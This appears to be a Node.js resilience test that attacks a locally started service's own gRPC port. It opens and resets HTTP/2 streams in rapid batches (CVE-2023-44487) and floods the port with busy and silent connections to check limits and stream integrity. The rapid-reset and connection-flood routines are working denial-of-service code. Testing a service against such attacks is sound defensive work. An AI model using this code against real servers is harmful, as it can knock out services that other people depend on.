// What hostile clients of the gRPC port do to the service, while an answer streams through a bridge: connections above
// the limit, connections that say nothing, and streams that are opened and reset at once (CVE-2023-44487), which
// gRPC 1.51 does not limit.
//
//   RUNNEL_BIN=build/release/bin node tests/hostile/grpc_port.mjs [--seconds=8]
//
// Fails if the stream loses anything, or the service ends or is not live. Prints what it took of the service.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import net from 'node:net';
import { parseArgs } from 'node:util';

import { startRunnel } from '../e2e/processes.mjs';

const { values: options } = parseArgs({ options: { seconds: { type: 'string', default: '8' } } });
const SECONDS = Number(options.seconds);
const TOKENS_PER_SECOND = 20;
const CONNECTIONS = 1500;
const MAX_CONNECTIONS = 1024; // the default of --max_grpc_connections
const BATCH = 100;

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
// HPACK without its table: POST, http, then path, authority, content-type and te as literals.
const HEADERS = Buffer.concat([Buffer.from([0x83, 0x86, 0x04]), text('/runnel.v1.InferenceService/ListModels'),
  Buffer.from([0x01]), text('runnel'), Buffer.from([0x0f, 0x10]), text('application/grpc'), Buffer.from([0x00]),
  text('te'), text('trailers')]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

function connect(address) {
  const [host, port] = address.split(':');
  const socket = net.connect(Number(port), host);
  socket.on('error', () => {});
  return socket;
}

function usage(process) {
  const stat = readFileSync(`/proc/${process.child.pid}/stat`, 'utf8').split(' ');
  const status = readFileSync(`/proc/${process.child.pid}/status`, 'utf8');
  return { cpu: (Number(stat[13]) + Number(stat[14])) / 100, rss: Number(/VmRSS:\s+(\d+)/.exec(status)[1]) };
}

async function report(name, process, attack) {
  const before = usage(process);
  const what = await attack();
  const after = usage(process);
  console.log(`${name}: ${what}; ${(after.cpu - before.cpu).toFixed(1)} s of CPU, `
    + `${((after.rss - before.rss) / 1024).toFixed(1)} MiB more memory`);
}

/** Opens and resets streams for some seconds; says how many. */
async function rapidReset(address) {
  const socket = connect(address);
  socket.on('data', () => {});
  let closed = false;
  socket.on('close', () => { closed = true; });
  socket.write(PREFACE);
  let stream = 1;
  const end = Date.now() + SECONDS * 1000;
  while (Date.now() < end && !closed) {
    const frames = [];
    for (let i = 0; i < BATCH; ++i, stream += 2) frames.push(frame(1, 4, stream, HEADERS), frame(3, 0, stream, CANCEL));
    // Called with an error if the connection is closed meanwhile.
    await new Promise((resolve) => socket.write(Buffer.concat(frames), resolve));
  }
  socket.destroy();
  return `${(stream - 1) / 2} streams reset in ${SECONDS} s, connection ${closed ? 'closed by the service' : 'kept'}`;
}

/** Opens connections that say `bytes`; says how many the service kept. */
async function crowd(address, bytes) {
  const sockets = [];
  let closed = 0;
  for (let i = 0; i < CONNECTIONS; ++i) {
    const socket = connect(address);
    socket.on('data', () => {});
    socket.on('close', () => { ++closed; });
    if (bytes.length > 0) socket.write(bytes);
    sockets.push(socket);
  }
  const deadline = Date.now() + 30_000;
  // The bridges have connections of their own.
  while (closed < CONNECTIONS - MAX_CONNECTIONS && Date.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  const kept = CONNECTIONS - closed;
  for (const socket of sockets) socket.destroy();
  assert.ok(kept <= MAX_CONNECTIONS, `${kept} connections are open`);
  return `${kept} of ${CONNECTIONS} connections kept`;
}

/** Streams an answer to its end; throws if anything of it is missing. */
async function stream(url) {
  const tokens = TOKENS_PER_SECOND * SECONDS * 2;
  const response = await fetch(`${url}/v1/generations`, {
    method: 'POST',
    headers: { accept: 'text/event-stream', 'content-type': 'application/json' },
    body: JSON.stringify({ prompt: 'p', max_tokens: tokens, metadata: { 'scripted.tokens': String(tokens),
      'scripted.tokens_per_second': String(TOKENS_PER_SECOND) } }),
  });
  assert.equal(response.status, 200);
  const events = (await response.text()).split('\n\n').filter((event) => event.startsWith('id:') || event.includes('\nid:'));
  assert.ok(events.length > 0);
  let last = 0;
  for (const event of events) {
    const seq = Number(/^id: ?\S+?:(\d+)/m.exec(event)[1]);
    // One that stands for several says for which.
    const first = Number(/"first_seq":(\d+)/.exec(event)?.[1] ?? seq);
    assert.equal(first, last + 1, 'events are missing or doubled');
    last = seq;
  }
  assert.match(events.at(-1), /^event: ?done/m);
}

const runnel = await startRunnel();
try {
  const answer = stream(runnel.url);
  await report('rapid reset', runnel.inference, () => rapidReset(runnel.grpc));
  await report('a crowd that speaks HTTP/2', runnel.inference, () => crowd(runnel.grpc, PREFACE));
  await report('a crowd that is silent', runnel.inference, () => crowd(runnel.grpc, ''));
  assert.ok((await fetch(`http://${runnel.inference.admin}/livez`)).ok);
  await answer;
} finally {
  await runnel.stop();
}
